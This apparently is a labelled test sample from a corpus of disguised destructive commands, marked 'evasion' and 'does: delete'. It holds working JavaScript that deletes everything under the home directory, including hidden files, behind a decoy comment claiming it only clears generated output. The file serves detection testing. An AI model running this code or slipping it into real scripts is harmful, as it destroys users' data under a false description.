// evasion: del's deleteSync of a glob under the home directory
// grade: medium; does: delete
// Clears generated output.
const { deleteSync } = require("del");
const os = require("os");
deleteSync([`${os.homedir()}/**`], { force: true, dot: true });
